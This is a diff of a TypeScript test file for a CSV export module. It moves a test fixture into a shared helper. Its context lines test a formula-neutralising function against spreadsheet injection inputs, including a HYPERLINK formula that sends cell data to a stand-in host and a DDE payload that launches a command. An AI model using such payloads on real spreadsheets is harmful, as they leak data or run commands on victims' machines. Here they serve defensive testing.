@@ -7,24 +7,9 @@ import { describe, expect, it } from 'vitest';
 import { buildCsv, csvField, parseCsv, parseCsvNumber } from '$lib/export/csv';
 import { neutraliseFormula } from '$lib/export/formula';
 import type { Observation } from '$lib/data/observation';
+import { obsRow } from '../../helpers/obs-row';
 
-const row = (over: Partial<Observation> = {}): Observation => ({
-	indicator_id: 'no_confidant',
-	region_code: '00',
-	period_start: 2024,
-	period_end: 2024,
-	sex: 'T',
-	group_dim: 'total',
-	group_code: 'total',
-	value: 15.2,
-	ci_low: 13.05,
-	ci_high: 17.4,
-	n: 1234,
-	status: null,
-	source_id: 'hlv',
-	is_demo: false,
-	...over
-});
+const row = (over: Partial<Observation> = {}): Observation => obsRow({ value: 15.2, ci_low: 13.05, ci_high: 17.4, n: 1234, source_id: 'hlv', ...over });
 
 describe('neutraliseFormula', () => {
 	it.each(['=HYPERLINK("http://x.example/?d="&A1)', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1', '=cmd|\' /C calc\'!A0'])('neutralises %j', (text) => {
